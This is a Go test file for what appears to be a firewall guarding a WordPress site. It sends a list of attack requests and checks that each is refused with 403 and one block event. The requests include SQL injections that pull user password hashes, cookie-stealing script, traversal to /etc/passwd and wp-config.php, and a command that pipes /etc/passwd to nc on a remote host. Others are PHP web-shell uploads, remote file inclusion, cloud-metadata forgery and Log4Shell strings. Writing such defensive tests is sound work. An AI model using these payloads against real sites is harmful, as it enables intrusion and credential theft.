package wordpress_test

import (
	"net/http"
	"net/url"
	"testing"
)

// attack is one request that must be refused with an event. session: sent with an
// editor's cookies, in reach of the profile's exclusions.
type attack struct {
	name    string
	method  string
	path    string
	kind    string // Content-Type; "form" for the usual one
	body    string
	header  http.Header
	session bool
}

const jsonType = "application/json"

const phpUpload = "--b\r\nContent-Disposition: form-data; name=\"action\"\r\n\r\nupload-attachment\r\n--b\r\nContent-Disposition: form-data; name=\"async-upload\"; filename=\"anh.php\"\r\nContent-Type: image/jpeg\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n"

// attacks are what scanners and intruders send to a WordPress from outside.
var attacks = []attack{
	{name: "SQL injection in a search", method: "GET", path: "/?s=1%27+UNION+SELECT+user_login,user_pass+FROM+wp_users--+-"},
	{name: "SQL injection in a parameter", method: "GET", path: "/?p=1+AND+(SELECT+1+FROM+(SELECT+SLEEP(5))a)"},
	{name: "reflected script", method: "GET", path: "/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},
	{name: "local file", method: "GET", path: "/wp-content/plugins/akismet/index.php?file=../../../../etc/passwd"},
	{name: "path traversal to the configuration", method: "GET", path: "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"},
	{name: "shell command", method: "GET", path: "/?cmd=;cat+/etc/passwd|nc+192.0.2.7+4444"},
	{name: "upload of a web shell", method: "POST", path: "/wp-admin/async-upload.php", kind: "multipart/form-data; boundary=b", body: phpUpload},
	{name: "scanner", method: "GET", path: "/", header: http.Header{"User-Agent": {"sqlmap/1.8.4#stable (https://sqlmap.org)"}}},
	{name: "remote file", method: "GET", path: "/wp-content/themes/x/inc.php?inc=http://192.0.2.7/shell.txt?"},
	{name: "request forgery to the cloud's metadata", method: "GET", path: "/wp-json/oembed/1.0/proxy?url=http://169.254.169.254/latest/meta-data/"},
	{name: "SQL injection in the REST API", method: "GET", path: "/wp-json/wp/v2/users?include[]=1)+UNION+SELECT+user_pass,2+FROM+wp_users--+-"},
	{name: "PHP in a form", method: "POST", path: "/wp-login.php", kind: "form", body: url.Values{"log": {"<?php eval(base64_decode($_POST['z'])); ?>"}, "pwd": {"x"}}.Encode()},
	{name: "Log4Shell in a header", method: "GET", path: "/", header: http.Header{"User-Agent": {"Mozilla/5.0 ${jndi:ldap://evil.test/a}"}}},
	{name: "XML-RPC with injection", method: "POST", path: "/xmlrpc.php", kind: "text/xml", body: `<?xml version="1.0"?><methodCall><methodName>1' UNION SELECT user_pass FROM wp_users-- -</methodName></methodCall>`},
	{name: "configuration backup", method: "GET", path: "/wp-config.php.bak"},
}

// code is matter the profile lets an editor write, but only there.
const code = "<script>alert(1)</script> ' UNION SELECT user_pass FROM wp_users-- - ; cat /etc/passwd"

func codeForm(field string, more ...string) string {
	v := url.Values{field: {code}}
	for i := 0; i+1 < len(more); i += 2 {
		v.Set(more[i], more[i+1])
	}
	return v.Encode()
}

// abuses go where the exclusions are: neighbouring fields, look-alike places, no
// session, other methods.
var abuses = []attack{
	{name: "article without a session", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"content":"<script>alert(1)</script> cat /etc/passwd"}`},
	{name: "title by REST", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"title":"<script>alert(1)</script>"}`, session: true},
	{name: "slug by REST", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"slug":"1' UNION SELECT user_pass FROM wp_users-- -"}`, session: true},
	{name: "field inside the text by REST", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"content":{"rendered":"<script>alert(1)</script>"}}`, session: true},
	{name: "PHP in the text", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"content":"<?php system($_GET[1]); ?>"}`, session: true},
	{name: "Log4Shell in the text", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{"content":"${jndi:ldap://evil.test/a}"}`, session: true},
	{name: "text on another route", method: "POST", path: "/wp-json/plugin/v1/posts/1", kind: jsonType, body: `{"content":"<script>alert(1)</script>"}`, session: true},
	{name: "text with two routes", method: "POST", path: "/?rest_route=/wp/v2/posts/1&rest.route=/plugin/v1/run", kind: jsonType, body: `{"content":"<script>alert(1)</script>"}`, session: true},
	{name: "classic title", method: "POST", path: "/wp-admin/post.php", kind: "form", body: codeForm("post_title", "content", "x"), session: true},
	{name: "classic custom field", method: "POST", path: "/wp-admin/post.php", kind: "form", body: codeForm("metavalue"), session: true},
	{name: "classic text without a session", method: "POST", path: "/wp-admin/post.php", kind: "form", body: codeForm("content")},
	{name: "text in the address", method: "POST", path: "/wp-admin/post.php?post=1%20UNION%20SELECT%201,user_pass%20FROM%20wp_users", kind: "form", body: "content=x", session: true},
	{name: "planted file with the editor's path", method: "POST", path: "/wp-content/uploads/x.php/wp-admin/post.php", kind: "form", body: codeForm("content"), session: true},
	{name: "editor's path through dots", method: "POST", path: "/wp-content/../wp-admin/post.php", kind: "form", body: codeForm("content"), session: true},
	{name: "editor's path with a newline", method: "POST", path: "/wp-admin/post.php%0a/x", kind: "form", body: codeForm("content"), session: true},
	{name: "theme editor", method: "POST", path: "/wp-admin/theme-editor.php", kind: "form", body: url.Values{"newcontent": {"<?php system($_GET['c']); ?>"}}.Encode(), session: true},
	{name: "theme editor by ajax", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: url.Values{"action": {"edit-theme-plugin-file"}, "newcontent": {"<?php eval($_POST['c']); ?>"}}.Encode(), session: true},
	{name: "plugin's ajax action with a known field", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: codeForm("content", "action", "plugin_save"), session: true},
	{name: "two ajax actions", method: "POST", path: "/wp-admin/admin-ajax.php?action=plugin_save", kind: "form", body: codeForm("data[wp_autosave][content]", "action", "heartbeat"), session: true},
	{name: "heartbeat title", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: codeForm("data[wp_autosave][post_title]", "action", "heartbeat"), session: true},
	{name: "photo title", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: codeForm("changes[title]", "action", "save-attachment"), session: true},
	{name: "widget title", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: codeForm("widget-text[2][title]", "action", "save-widget"), session: true},
	{name: "SQL in a text widget", method: "POST", path: "/wp-admin/admin-ajax.php", kind: "form", body: url.Values{"action": {"save-widget"}, "widget-text[2][text]": {"1' UNION SELECT user_pass FROM wp_users-- -"}}.Encode(), session: true},
	{name: "site name", method: "POST", path: "/wp-admin/options.php", kind: "form", body: codeForm("blogname", "option_page", "general"), session: true},
	{name: "mail address of a user", method: "POST", path: "/wp-admin/user-edit.php", kind: "form", body: codeForm("email"), session: true},
	{name: "script as a password by login", method: "POST", path: "/wp-login.php", kind: "form", body: url.Values{"log": {"' OR 1=1 UNION SELECT 1,2-- -"}, "pwd": {"x"}}.Encode()},
	{name: "script in a comment", method: "POST", path: "/wp-comments-post.php", kind: "form", body: url.Values{"comment_post_ID": {"1"}, "comment": {"<script src=//evil.test/x.js></script>"}}.Encode()},
	{name: "SQL as a comment's author", method: "POST", path: "/wp-comments-post.php", kind: "form", body: url.Values{"comment": {"x"}, "author": {"1' UNION SELECT user_pass FROM wp_users-- -"}}.Encode()},
	{name: "SQL as a comment's article", method: "POST", path: "/wp-comments-post.php", kind: "form", body: url.Values{"comment": {"x"}, "comment_post_ID": {"1 UNION SELECT user_pass FROM wp_users"}}.Encode()},
	{name: "comment by GET", method: "GET", path: "/wp-comments-post.php?comment=1%27+UNION+SELECT+user_pass+FROM+wp_users--+-"},
	{name: "method override without a session", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{}`, header: http.Header{"X-Http-Method-Override": {"DELETE"}, "X-Wp-Nonce": {"0123456789"}}},
	{name: "method override to another method", method: "POST", path: "/wp-json/wp/v2/posts/1", kind: jsonType, body: `{}`, header: http.Header{"X-Http-Method-Override": {"TRACE"}, "X-Wp-Nonce": {"0123456789"}}, session: true},
	{name: "method override outside the API", method: "POST", path: "/wp-admin/post.php", kind: "form", body: "a=b", header: http.Header{"X-Http-Method-Override": {"PUT"}, "X-Wp-Nonce": {"0123456789"}}, session: true},
	{name: "PUT of a file", method: "PUT", path: "/wp-content/uploads/anh.php", kind: "text/plain", body: "anh", session: true},
	{name: "raw script as a photo", method: "POST", path: "/wp-json/wp/v2/media", kind: "image/jpeg", body: "<?php system($_GET['c']);", header: http.Header{"X-Wp-Nonce": {"0123456789"}, "Content-Disposition": {`attachment; filename="anh.php"`}}, session: true},
	{name: "raw script with two endings", method: "POST", path: "/wp-json/wp/v2/media", kind: "image/jpeg", body: "<?php system($_GET['c']);", header: http.Header{"X-Wp-Nonce": {"0123456789"}, "Content-Disposition": {`attachment; filename="anh.php.jpg"`}}, session: true},
	{name: "raw body of another type", method: "POST", path: "/wp-json/wp/v2/media", kind: "application/x-php", body: "<?php system($_GET['c']);", header: http.Header{"X-Wp-Nonce": {"0123456789"}, "Content-Disposition": {`attachment; filename="anh.jpg"`}}, session: true},
	{name: "web shell with a session", method: "POST", path: "/wp-admin/async-upload.php", kind: "multipart/form-data; boundary=b", body: phpUpload, session: true},
}

// blocked sends each and demands 403 with a block event of the same request.
func blocked(t *testing.T, list []attack, visitor, editor *client) {
	for _, a := range list {
		t.Run(a.name, func(t *testing.T) {
			c, kind := visitor, a.kind
			if a.session {
				c = editor
			}
			if kind == "form" {
				kind = "application/x-www-form-urlencoded"
			}
			r := c.do(t, a.method, a.path, kind, []byte(a.body), a.header).want(t, http.StatusForbidden)
			if n := len(c.to.onRecord(t, "block", r.header.Get("X-Request-Id"))); n != 1 {
				t.Errorf("%d block events, want 1", n)
			}
		})
	}
}
